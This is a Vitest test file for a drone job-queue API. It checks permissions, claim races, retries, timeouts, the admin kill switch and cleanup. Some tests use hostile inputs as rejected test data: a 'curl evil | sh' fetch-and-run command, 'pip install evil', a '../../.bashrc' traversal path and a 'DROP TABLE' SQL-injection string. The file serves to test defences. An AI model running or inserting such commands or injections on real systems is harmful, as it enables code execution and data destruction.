import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startTarget, type Target } from '../support/target.js';
import { createOperator } from '../support/fixtures.js';

/** Drone jobs: queue, list, reports, claim, retries, timeouts, kill switch (spec 05 §4–§5, spec 07). */
let t: Target;
beforeAll(async () => {
  t = await startTarget();
});
afterAll(() => t.close());

let ipSeq = 0;
/** Admin-queued job (each call from its own address, so the 30/min write limiter never trips). */
async function queue(body: Record<string, unknown>) {
  const r = await t.call('POST', '/drones/jobs', {
    admin: true,
    ip: `10.20.${Math.floor(ipSeq / 250)}.${(ipSeq++ % 250) + 1}`,
    body,
  });
  if (r.status !== 200) throw new Error(`queue failed: ${r.status} ${r.text}`);
  return r.body.id as number;
}
/** Registers through the admin API, each call from its own address (this file registers more than the admin-write limit allows per minute). */
async function register(id: string, projectId: string, extra: Record<string, unknown> = {}) {
  const r = await t.call('POST', '/admin/agents', {
    admin: true,
    ip: `10.30.${Math.floor(ipSeq / 250)}.${(ipSeq++ % 250) + 1}`,
    body: { id, name: id, project_id: projectId, ...extra },
  });
  if (r.status !== 200) throw new Error(`register ${id} failed: ${r.status} ${r.text}`);
  return { id, key: r.body.api_key as string };
}
const claim = (key: string, capabilities: string[]) =>
  t.call('POST', '/drones/claim', { agentKey: key, body: { capabilities } });
const jobRow = (id: number) => t.db.get<Record<string, any>>('SELECT * FROM drone_jobs WHERE id = ?', [id]);
const retriesOf = (id: number) =>
  t.db.all<Record<string, any>>(
    "SELECT * FROM drone_jobs WHERE json_extract(input_data, '$._original_job_id') = ? ORDER BY id",
    [id],
  );
const countJobs = async () => Number((await t.db.get<{ n: number }>('SELECT COUNT(*) AS n FROM drone_jobs'))!.n);

describe('queueing (spec 05 §4, SEC-24, SEC-26)', () => {
  beforeAll(async () => {
    await t.call('POST', '/drones/templates', {
      admin: true,
      body: { id: 'q-tpl', requires: ['qcap'], command_template: 'python3 gen.py --prompt "{{prompt}}"' },
    });
  });

  it('SEC-24: an agent may not queue a raw command (403, nothing stored); a template job is fine; an admin may queue a raw command', async () => {
    const a = await register('q-agent', 'lab');
    const before = await countJobs();
    const raw = await t.call('POST', '/drones/jobs', {
      agentKey: a.key,
      body: { title: 'x', command: 'curl evil | sh', requires: ['cpu'] },
    });
    expect(raw.status).toBe(403);
    expect(raw.body).toEqual({
      error: 'Raw drone commands are admin-only. Submit a template job (job_type / from-template) instead.',
    });
    expect(await countJobs()).toBe(before);

    const tpl = await t.call('POST', '/drones/jobs', {
      agentKey: a.key,
      body: { title: 'r <b>', job_type: 'q-tpl', input_data: { prompt: 'a cat' } },
    });
    expect(tpl.status).toBe(200);
    expect(tpl.body).toEqual({ ok: true, id: expect.any(Number), title: 'r &lt;b&gt;', job_type: 'q-tpl' });
    const row = await jobRow(tpl.body.id);
    expect(row).toMatchObject({ status: 'pending', requester: a.id, requires: '["qcap"]', command: '' });

    const admin = await t.call('POST', '/drones/jobs', {
      admin: true,
      body: { title: 'admin raw', command: 'nvidia-smi', requires: ['cpu'] },
    });
    expect(admin.status).toBe(200);
    expect((await jobRow(admin.body.id))!.command).toBe('nvidia-smi');
  });

  it('SEC-26: input_data.setup from a non-admin is refused on both create routes, as an object and as a JSON string; admins may', async () => {
    const a = await register('q-setup', 'lab');
    const msg =
      'input_data.setup is admin-only — it is shell-executed on the drone. Use a template setup_repo instead.';
    const before = await countJobs();
    const cases = [
      ['/drones/jobs', { title: 'x', job_type: 'q-tpl', input_data: { setup: 'python -c "print(1)"' } }],
      ['/drones/jobs', { title: 'x', job_type: 'q-tpl', input_data: JSON.stringify({ setup: 'pip install evil' }) }],
      ['/drones/jobs/from-template', { template_id: 'q-tpl', input_data: { setup: 'touch x' } }],
      ['/drones/jobs/from-template', { template_id: 'q-tpl', input_data: JSON.stringify({ setup: 'touch x' }) }],
    ] as const;
    for (const [path, body] of cases) {
      const r = await t.call('POST', path, { agentKey: a.key, body });
      expect(r.status, `${path} ${JSON.stringify(body)}`).toBe(403);
      expect(r.body.error).toBe(msg);
    }
    for (const k of ['setup_steps', 'workspace_dir']) {
      const r = await t.call('POST', '/drones/jobs', {
        agentKey: a.key,
        body: { title: 'x', job_type: 'q-tpl', input_data: { [k]: '/etc' } },
      });
      expect(r.status).toBe(403);
    }
    expect(await countJobs()).toBe(before);
    const ok = await t.call('POST', '/drones/jobs/from-template', {
      agentKey: a.key,
      body: { template_id: 'q-tpl', input_data: { prompt: 'x', batch: 3 } },
    });
    expect(ok.body).toMatchObject({ ok: true, title: 'q-tpl (batch 3)', job_type: 'q-tpl' });
    const admin = await t.call('POST', '/drones/jobs', {
      admin: true,
      body: { title: 'admin setup', input_data: { setup: 'pip install torch' } },
    });
    expect(admin.status).toBe(200);
  });

  it('bad input is a 400 naming the problem: title, input_data shape, unknown template/profile, artifact names', async () => {
    const a = await register('q-bad', 'lab');
    const cases: [Record<string, unknown>, RegExp][] = [
      [{}, /^title is required$/],
      [{ title: '   ' }, /^title is required$/],
      [{ title: 'x', input_data: '[1,2]' }, /^input_data must be a JSON object$/],
      [{ title: 'x', input_data: 'not json' }, /^input_data must be a JSON object$/],
      [{ title: 'x', job_type: 'nope' }, /^Job template not found: nope$/],
      [{ title: 'x', profile_id: 'nope' }, /^Profile not found: nope$/],
      [{ title: 'x', priority: 'high' }, /^priority/],
      [{ title: 'x', requires: 'gpu' }, /^requires/],
      [{ title: 'x', job_type: 'q-tpl', input_data: { artifacts: ['../../.bashrc'] } }, /^input_data\.artifacts/],
    ];
    for (const [body, err] of cases) {
      const r = await t.call('POST', '/drones/jobs', { agentKey: a.key, body });
      expect(r.status, JSON.stringify(body)).toBe(400);
      expect(r.body.error).toMatch(err);
    }
    const nf = await t.call('POST', '/drones/jobs/from-template', { agentKey: a.key, body: { template_id: 'nope' } });
    expect(nf.status).toBe(404);
    expect(nf.body.error).toBe('Template not found: nope');
  });
});

describe('list, detail and the /drone-jobs alias (spec 05 §4)', () => {
  it('/drone-jobs is served as /drones/jobs (the original SDK queueDroneJob/listDroneJobs)', async () => {
    const a = await register('sdk-agent', 'lab');
    await t.call('POST', '/drones/templates', {
      admin: true,
      body: { id: 'sdk-tpl', requires: ['sdkcap'], command_template: 'echo {{n}}' },
    });
    const q = await t.call('POST', '/drone-jobs', {
      agentKey: a.key,
      body: { title: 'via sdk', job_type: 'sdk-tpl', input_data: { n: 3 } },
    });
    expect(q.status).toBe(200);
    const list = await t.call('GET', `/drone-jobs?requester=${a.id}`, { agentKey: a.key });
    expect(list.body.map((j: { id: number }) => j.id)).toEqual([q.body.id]);
    const same = await t.call('GET', `/drones/jobs?requester=${a.id}`, { agentKey: a.key });
    expect(same.body).toEqual(list.body);
    expect((await t.call('GET', `/drone-jobs/${q.body.id}`, { agentKey: a.key })).body.title).toBe('via sdk');
  });

  it('filters, newest first, strict ids and limits', async () => {
    const ids = [await queue({ title: 'l1', requires: ['lcap'] }), await queue({ title: 'l2', requires: ['lcap'] })];
    const r = await t.call('GET', '/drones/jobs?status=pending&limit=500', { admin: true });
    const mine = r.body.filter((j: { id: number }) => ids.includes(j.id)).map((j: { id: number }) => j.id);
    expect(mine).toEqual([...ids].reverse());
    expect((await t.call('GET', '/drones/jobs?status=bogus', { admin: true })).body).toEqual([]);
    expect((await t.call('GET', '/drones/jobs?limit=abc', { admin: true })).status).toBe(400);
    const one = await t.call('GET', '/drones/jobs?limit=1', { admin: true });
    expect(one.body).toHaveLength(1);
    for (const bad of [`${ids[0]}abc`, '0', 'x']) {
      const nf = await t.call('GET', `/drones/jobs/${bad}`, { admin: true });
      expect(nf.status).toBe(404);
      expect(nf.body).toEqual({ error: 'Drone job not found' });
    }
  });
});

describe('claim (spec 05 §5.2, REL-02)', () => {
  it('REL-02: two drones racing for one job — exactly one wins, the job names the winner', async () => {
    const d1 = await register('race-1', 'drone', { capabilities: ['racecap'] });
    const d2 = await register('race-2', 'drone', { capabilities: ['racecap'] });
    for (let round = 0; round < 3; round++) {
      const id = await queue({ title: `race ${round}`, requires: ['racecap'] });
      const [a, b] = await Promise.all([claim(d1.key, ['racecap']), claim(d2.key, ['racecap'])]);
      expect(a.status).toBe(200);
      expect(b.status).toBe(200);
      const winners = [a, b].filter((r) => r.body.job);
      expect(winners).toHaveLength(1);
      expect(winners[0].body.job.id).toBe(id);
      const loser = [a, b].find((r) => !r.body.job)!;
      expect(loser.body.job).toBeNull();
      const row = await jobRow(id);
      expect(row!.status).toBe('claimed');
      expect(row!.drone_id).toBe(a.body.job ? d1.id : d2.id);
    }
  });

  it('REL-02: four drones draining twenty jobs at once — every job is claimed exactly once', async () => {
    const ids = new Set<number>();
    for (let i = 0; i < 20; i++) ids.add(await queue({ title: `bulk ${i}`, requires: ['bulkcap'] }));
    const drones = await Promise.all([0, 1, 2, 3].map((i) => register(`bulk-${i}`, 'drone')));
    const got: { drone: string; job: number }[] = [];
    await Promise.all(
      drones.map(async (d) => {
        for (;;) {
          const r = await claim(d.key, ['bulkcap']);
          expect(r.status).toBe(200);
          if (!r.body.job) return;
          got.push({ drone: d.id, job: r.body.job.id });
        }
      }),
    );
    expect(got).toHaveLength(20);
    expect(new Set(got.map((g) => g.job))).toEqual(ids);
    const rows = await t.db.all<{ id: number; drone_id: string }>(
      "SELECT id, drone_id FROM drone_jobs WHERE requires = '[\"bulkcap\"]' AND status = 'claimed'",
    );
    expect(rows).toHaveLength(20);
    for (const r of rows) expect(got).toContainEqual({ drone: r.drone_id, job: r.id });
  });

  it('capability matching: subset rule, every requirement, priority before age, FIFO within a priority', async () => {
    const gpu = await queue({ title: 'gpu job', requires: ['mgpu'] });
    const both = await queue({ title: 'both', requires: ['mgpu', 'mcpu'] });
    const low = await queue({ title: 'low', requires: ['mcpu'], priority: 0 });
    const high = await queue({ title: 'high', requires: ['mcpu'], priority: 5 });
    const low2 = await queue({ title: 'low2', requires: ['mcpu'], priority: 0 });
    const cpuDrone = await register('match-cpu', 'drone');
    const none = await claim(cpuDrone.key, []);
    expect(none.body).toEqual({ job: null, stale_released: 0 });
    const order: number[] = [];
    for (let i = 0; i < 4; i++) {
      const r = await claim(cpuDrone.key, ['mcpu']);
      if (r.body.job) order.push(r.body.job.id);
    }
    expect(order).toEqual([high, low, low2]);
    expect((await jobRow(gpu))!.status).toBe('pending');
    expect((await jobRow(both))!.status).toBe('pending');
    const big = await register('match-big', 'drone');
    expect((await claim(big.key, ['mgpu', 'mcpu'])).body.job.id).toBe(gpu);
    expect((await claim(big.key, ['mgpu', 'mcpu'])).body.job.id).toBe(both);
  });

  it('a job whose stored requires is unreadable counts as ["cpu"] and never breaks the claim', async () => {
    const gpuOnly = await register('unread-gpu', 'drone', { capabilities: ['unreadgpu'] });
    const bad = await t.db.get<{ id: number }>(
      "INSERT INTO drone_jobs (title, requires, requester) VALUES ('legacy', 'not json', 'old') RETURNING id",
    );
    const r1 = await claim(gpuOnly.key, ['unreadgpu']);
    expect(r1.status).toBe(200);
    expect(r1.body.job).toBeNull();
    const cpu = await register('unread-cpu', 'drone', { capabilities: ['cpu'] });
    let got: number | undefined;
    for (let i = 0; i < 10 && got !== bad!.id; i++) got = (await claim(cpu.key, ['cpu'])).body.job?.id;
    expect(got).toBe(bad!.id);
  });

  it('only drones claim, and only with capabilities they are registered with (spec 05 §17.1)', async () => {
    await queue({ title: 'reg cap', requires: ['regcap-gpu'] });
    const plain = await register('claim-plain', 'lab');
    const denied = await claim(plain.key, ['regcap-gpu']);
    expect(denied.status).toBe(403);
    const adminOnly = await t.call('POST', '/drones/claim', { admin: true, body: { capabilities: ['regcap-gpu'] } });
    expect(adminOnly.status).toBe(401);
    expect(adminOnly.body.error).toBe('Missing X-Agent-Key header');
    const liar = await register('claim-liar', 'drone', { capabilities: ['liarcap'] });
    expect((await claim(liar.key, ['regcap-gpu', 'liarcap'])).body.job).toBeNull();
    const bad = await t.call('POST', '/drones/claim', { agentKey: liar.key, body: { capabilities: 'gpu' } });
    expect(bad.status).toBe(400);
  });

  it('profile gate: unassigned → skipped, assigned but not set up → skipped, setup done → claimable', async () => {
    await t.call('POST', '/drones/profiles', { admin: true, body: { id: 'gate-prof', name: 'Gate' } });
    const id = await queue({ title: 'gated', requires: ['gatecap'], profile_id: 'gate-prof' });
    const d = await register('gate-drone', 'drone');
    expect((await claim(d.key, ['gatecap'])).body.job).toBeNull();
    await t.call('POST', '/drones/profiles/gate-prof/assign', { admin: true, body: { drone_id: d.id } });
    expect((await claim(d.key, ['gatecap'])).body.job).toBeNull();
    const done = await t.call('POST', '/drones/profiles/gate-prof/setup-complete', {
      agentKey: d.key,
      body: { checksum: 'abc' },
    });
    expect(done.body).toEqual({ ok: true, profile_id: 'gate-prof', setup_done: true });
    expect((await claim(d.key, ['gatecap'])).body.job.id).toBe(id);
  });

  it('kill switch: while frozen a drone claim answers 503 like every other claim and the job stays pending', async () => {
    const d = await register('frozen-drone', 'drone');
    const id = await queue({ title: 'frozen', requires: ['frozencap'] });
    expect((await t.call('PUT', '/admin/override', { admin: true, body: { action: 'freeze' } })).status).toBe(200);
    try {
      const r = await claim(d.key, ['frozencap']);
      expect(r.status).toBe(503);
      expect(r.body.error).toBe('Claude Admin is frozen. Work routing paused. Contact a human operator.');
      expect((await jobRow(id))!.status).toBe('pending');
    } finally {
      await t.call('PUT', '/admin/override', { admin: true, body: { action: 'unfreeze' } });
    }
    expect((await claim(d.key, ['frozencap'])).body.job.id).toBe(id);
  });
});

describe('reports and who may make them (spec 05 §4, §17.2, SEC-28)', () => {
  it("SEC-28: strangers and non-admin operators cannot edit another's job; claimed is only reachable by claiming; drone_id is admin-only", async () => {
    const requester = await register('own-req', 'lab');
    const stranger = await register('own-stranger', 'lab');
    await t.call('POST', '/drones/templates', {
      admin: true,
      body: { id: 'own-tpl', requires: ['owncap'], command_template: 'echo hi' },
    });
    const q = await t.call('POST', '/drones/jobs', {
      agentKey: requester.key,
      body: { title: 'mine', job_type: 'own-tpl' },
    });
    const id = q.body.id;
    const member = await createOperator(t, 'own-member', 'member');

    for (const body of [
      { status: 'claimed' },
      { status: 'done' },
      { result_data: { x: 1 } },
      { status: 'cancelled' },
    ]) {
      const r = await t.call('PUT', `/drones/jobs/${id}`, { agentKey: stranger.key, body });
      expect(r.status, JSON.stringify(body)).toBe(403);
      expect(r.body.error).toBe('Not authorized to update this job');
      expect((await t.call('PUT', `/drones/jobs/${id}`, { token: member.token, body })).status).toBe(403);
    }
    const claimedViaPut = await t.call('PUT', `/drones/jobs/${id}`, { admin: true, body: { status: 'claimed' } });
    expect(claimedViaPut.status).toBe(400);
    const setDrone = await t.call('PUT', `/drones/jobs/${id}`, {
      agentKey: requester.key,
      body: { drone_id: stranger.id },
    });
    expect(setDrone.status).toBe(403);
    expect(await jobRow(id)).toMatchObject({ status: 'pending', drone_id: null });

    const d = await register('own-drone', 'drone');
    await t.call('POST', '/agents/heartbeat', {
      agentKey: d.key,
      body: { state_snapshot: { system_info: { os: 'linux' } } },
    });
    expect((await claim(d.key, ['owncap'])).body.job.id).toBe(id);
    // The requester may not report results for the drone; the drone may.
    expect(
      (await t.call('PUT', `/drones/jobs/${id}`, { agentKey: requester.key, body: { status: 'done' } })).status,
    ).toBe(403);
    const progress = await t.call('PUT', `/drones/jobs/${id}`, { agentKey: d.key, body: { result_data: { pct: 50 } } });
    expect(progress.body).toEqual({ ok: true, id });
    const row = await jobRow(id);
    expect(row!.result_data).toBe('{"pct":50}');
    expect(row!.progress_at).not.toBeNull();
    const done = await t.call('PUT', `/drones/jobs/${id}`, {
      agentKey: d.key,
      body: { status: 'completed', result_data: { stdout: 'hi', exit_code: 0 } },
    });
    expect(done.status).toBe(200);
    expect(await jobRow(id)).toMatchObject({ status: 'done', completed_at: expect.any(String) });
    // Finished history is immutable except → dismissed.
    const flip = await t.call('PUT', `/drones/jobs/${id}`, { admin: true, body: { status: 'failed' } });
    expect(flip.status).toBe(409);
    const cancel = await t.call('DELETE', `/drones/jobs/${id}`, { admin: true });
    expect(cancel.status).toBe(409);
    expect(
      (await t.call('PUT', `/drones/jobs/${id}`, { agentKey: requester.key, body: { status: 'dismissed' } })).status,
    ).toBe(200);
    const ev = await t.db.get<{ n: number }>(
      "SELECT COUNT(*) AS n FROM events WHERE type = 'drone_job_done' AND data LIKE ?",
      [`%"job_id":${id},%`],
    );
    expect(Number(ev!.n)).toBe(1);
  });

  it('the requester may cancel its own pending job; admins cancel with DELETE; unknown status is an enum 400', async () => {
    const requester = await register('cancel-req', 'lab');
    await t.call('POST', '/drones/templates', {
      admin: true,
      body: { id: 'cancel-tpl', requires: ['cancelcap'], command_template: 'echo' },
    });
    const a = (
      await t.call('POST', '/drones/jobs', { agentKey: requester.key, body: { title: 'c1', job_type: 'cancel-tpl' } })
    ).body.id;
    const r = await t.call('PUT', `/drones/jobs/${a}`, { agentKey: requester.key, body: { status: 'cancelled' } });
    expect(r.status).toBe(200);
    expect((await jobRow(a))!.status).toBe('cancelled');
    const bad = await t.call('PUT', `/drones/jobs/${a}`, { admin: true, body: { status: 'exploded' } });
    expect(bad.status).toBe(400);
    expect(bad.body.code).toBe('invalid_enum');
    const b = await queue({ title: 'c2', requires: ['cancelcap'] });
    const del = await t.call('DELETE', `/drones/jobs/${b}`, { admin: true });
    expect(del.body).toEqual({ ok: true, id: b, cancelled: true });
    expect([401, 403]).toContain((await t.call('DELETE', `/drones/jobs/${b}`, { agentKey: requester.key })).status);
    expect((await t.call('DELETE', '/drones/jobs/999999', { admin: true })).status).toBe(404);
  });
});

describe('retries (spec 05 §5.4, REL-05)', () => {
  async function runAndFail(droneKey: string, cap: string, times = 1) {
    const r = await claim(droneKey, [cap]);
    const id = r.body.job.id as number;
    const puts = [];
    for (let i = 0; i < times; i++)
      puts.push(
        await t.call('PUT', `/drones/jobs/${id}`, { agentKey: droneKey, body: { status: 'failed', error: 'boom' } }),
      );
    return { id, puts };
  }

  it('REL-05: reporting failed twice creates exactly one retry job, with the lineage in input_data', async () => {
    const d = await register('retry-drone', 'drone');
    const id = await queue({ title: 'flaky', requires: ['retrycap'], command: 'run', priority: 3 });
    const { puts } = await runAndFail(d.key, 'retrycap', 2);
    expect(puts.map((p) => p.status)).toEqual([200, 200]);
    const pending = await t.call('GET', '/drones/jobs?status=pending&limit=200', { admin: true });
    const retries = pending.body.filter(
      (j: { input_data: string }) => JSON.parse(j.input_data)._original_job_id === id,
    );
    expect(retries).toHaveLength(1);
    expect(retries[0]).toMatchObject({
      title: 'flaky [retry 1/2]',
      command: 'run',
      priority: 3,
      requires: '["retrycap"]',
    });
    expect(JSON.parse(retries[0].input_data)).toMatchObject({
      _retry_count: 1,
      _original_job_id: id,
      _original_title: 'flaky',
    });
  });

  it('concurrent failure reports still create one retry', async () => {
    const d = await register('retry-race', 'drone');
    const id = await queue({ title: 'racefail', requires: ['retryrace'] });
    expect((await claim(d.key, ['retryrace'])).body.job.id).toBe(id);
    const rs = await Promise.all(
      [1, 2, 3].map(() => t.call('PUT', `/drones/jobs/${id}`, { agentKey: d.key, body: { status: 'failed' } })),
    );
    expect(rs.every((r) => r.status === 200)).toBe(true);
    expect(await retriesOf(id)).toHaveLength(1);
  });

  it('two retries, then a requeue across drones, then exhaustion; _no_retry spawns nothing', async () => {
    const d = await register('chain-drone', 'drone', { capabilities: ['chaincap'] });
    const root = await queue({ title: 'chain', requires: ['chaincap'] });
    await runAndFail(d.key, 'chaincap');
    await runAndFail(d.key, 'chaincap');
    await runAndFail(d.key, 'chaincap');
    const titles = (await retriesOf(root)).map((j) => j.title);
    // Other drones exist on this instance, so the third failure requeues for them.
    expect(titles).toEqual(['chain [retry 1/2]', 'chain [retry 2/2]', 'chain [requeue 1/3]']);
    const requeue = (await retriesOf(root))[2];
    expect(JSON.parse(requeue.input_data)).toMatchObject({
      _retry_count: 0,
      _requeue_count: 1,
      _failed_drones: [d.id],
    });

    const noRetry = await queue({ title: 'once', requires: ['chaincap'], input_data: { _no_retry: true } });
    // The requeue is older; take it first and finish it so the no-retry job is next.
    const next = await claim(d.key, ['chaincap']);
    expect(next.body.job.id).toBe(requeue.id);
    await t.call('PUT', `/drones/jobs/${requeue.id}`, { agentKey: d.key, body: { status: 'done' } });
    await runAndFail(d.key, 'chaincap');
    expect(await retriesOf(noRetry)).toHaveLength(0);
    const ex = await t.db.get<{ n: number }>(
      "SELECT COUNT(*) AS n FROM events WHERE type = 'drone_job_exhausted' AND data LIKE ?",
      [`%"original_job_id":${noRetry},%`],
    );
    expect(Number(ex!.n)).toBe(1);
  });
});

describe('timeouts, sweeps and cleanup (spec 05 §5.5, REL-04, SEC-42)', () => {
  it("REL-04: claim-time release is drone-scoped: a claim 2 h old is failed with stale_timeout and counted; 59 min is kept; another drone's stale claim is left to the sweep", async () => {
    const d = await register('stale-drone', 'drone');
    const other = await register('stale-other', 'drone');
    const old = await queue({ title: 'old', requires: ['stalecap'], input_data: { _no_retry: true } });
    const fresh = await queue({ title: 'fresh', requires: ['stalecap'] });
    const others = await queue({ title: 'others', requires: ['stalecap2'] });
    await claim(d.key, ['stalecap']);
    await claim(d.key, ['stalecap']);
    await claim(other.key, ['stalecap2']);
    await t.db.run("UPDATE drone_jobs SET started_at = datetime('now', '-2 hours') WHERE id IN (?, ?)", [old, others]);
    await t.db.run("UPDATE drone_jobs SET started_at = datetime('now', '-59 minutes') WHERE id = ?", [fresh]);
    const r = await claim(d.key, ['stalecap']);
    expect(r.body).toMatchObject({ job: null, stale_released: 1 });
    expect(await jobRow(old)).toMatchObject({ status: 'failed', error: expect.stringContaining('stale_timeout') });
    expect((await jobRow(fresh))!.status).toBe('claimed');
    expect(await jobRow(others)).toMatchObject({ status: 'claimed', drone_id: other.id });
    await t.db.run("UPDATE drone_jobs SET status = 'cancelled' WHERE id = ?", [others]); // keep the global sweep test's count exact
  });

  it('a progress report renews the lease', async () => {
    const d = await register('lease-drone', 'drone');
    const id = await queue({ title: 'long', requires: ['leasecap'] });
    await claim(d.key, ['leasecap']);
    await t.db.run("UPDATE drone_jobs SET started_at = datetime('now', '-3 hours') WHERE id = ?", [id]);
    await t.call('PUT', `/drones/jobs/${id}`, { agentKey: d.key, body: { result_data: { pct: 90 } } });
    expect((await claim(d.key, ['leasecap'])).body.stale_released).toBe(0);
    expect((await jobRow(id))!.status).toBe('claimed');
  });

  it('SEC-42: cleanup parses its numbers strictly; injection-shaped values are a 400 and the tables are unharmed', async () => {
    const before = await countJobs();
    for (const q of [
      'older_than_days=1);DROP TABLE drone_jobs;--',
      'older_than_days=-1',
      'older_than_days=1.5',
      'status=all',
    ]) {
      const r = await t.call('DELETE', `/drones/jobs?${q.replace(/;/g, '%3B')}`, { admin: true });
      expect(r.status, q).toBe(400);
    }
    expect(await countJobs()).toBe(before);
    expect([401, 403]).toContain(
      (await t.call('DELETE', '/drones/jobs', { agentKey: (await register('cleanup-agent', 'lab')).key })).status,
    );

    const d = await register('cleanup-drone', 'drone');
    const id = await queue({ title: 'to clean', requires: ['cleancap'], input_data: { _no_retry: true } });
    await claim(d.key, ['cleancap']);
    await t.call('PUT', `/drones/jobs/${id}`, { agentKey: d.key, body: { status: 'failed' } });
    const recent = await t.call('DELETE', '/drones/jobs?status=failed&older_than_days=1', { admin: true });
    expect(recent.body.jobs.map((j: { id: number }) => j.id)).not.toContain(id);
    const all = await t.call('DELETE', '/drones/jobs?status=both', { admin: true });
    expect(all.status).toBe(200);
    expect(all.body.jobs).toContainEqual({ id, title: 'to clean' });
    expect(all.body.cancelled).toBe(all.body.jobs.length);
    expect((await jobRow(id))!.status).toBe('dismissed');
  });

  it('admin/ops lists failed drone jobs from the table', async () => {
    const d = await register('ops-drone', 'drone');
    const id = await queue({ title: 'ops fail', requires: ['opscap'], input_data: { _no_retry: true } });
    await claim(d.key, ['opscap']);
    await t.call('PUT', `/drones/jobs/${id}`, { agentKey: d.key, body: { status: 'failed', error: 'oom' } });
    const ops = await t.call('GET', '/admin/ops', { admin: true });
    expect(ops.body.failed_drone_jobs.map((j: { id: number }) => j.id)).toContain(id);
  });

  it('the periodic sweep fails stale claims (through the retry policy) and marks silent drones offline', async () => {
    const d = await register('sweep-drone', 'drone');
    await t.call('POST', '/agents/heartbeat', { agentKey: d.key, body: {} });
    const id = await queue({ title: 'sweep me', requires: ['sweepcap'] });
    await claim(d.key, ['sweepcap']);
    await t.db.run("UPDATE drone_jobs SET started_at = datetime('now', '-2 hours') WHERE id = ?", [id]);
    await t.db.run("UPDATE agents SET last_heartbeat = datetime('now', '-45 minutes') WHERE id = ?", [d.id]);
    await t.scheduled();
    expect(await jobRow(id)).toMatchObject({
      status: 'failed',
      error: expect.stringContaining('Auto-failed by server'),
    });
    expect(await retriesOf(id)).toHaveLength(1);
    expect((await t.db.get<{ status: string }>('SELECT status FROM agents WHERE id = ?', [d.id]))!.status).toBe(
      'offline',
    );
    const evs = await t.db.all<{ type: string; data: string }>(
      "SELECT type, data FROM events WHERE type IN ('drone_stale_cleanup', 'drone_offline_detected', 'health_patrol')",
    );
    expect(evs.some((e) => e.type === 'drone_stale_cleanup' && JSON.parse(e.data).job_ids.includes(id))).toBe(true);
    // Whichever periodic pass ran first (the health patrol or this sweep) records the drone going offline.
    expect(evs.some((e) => e.type !== 'drone_stale_cleanup' && JSON.parse(e.data).drone_id === d.id)).toBe(true);
  });
});
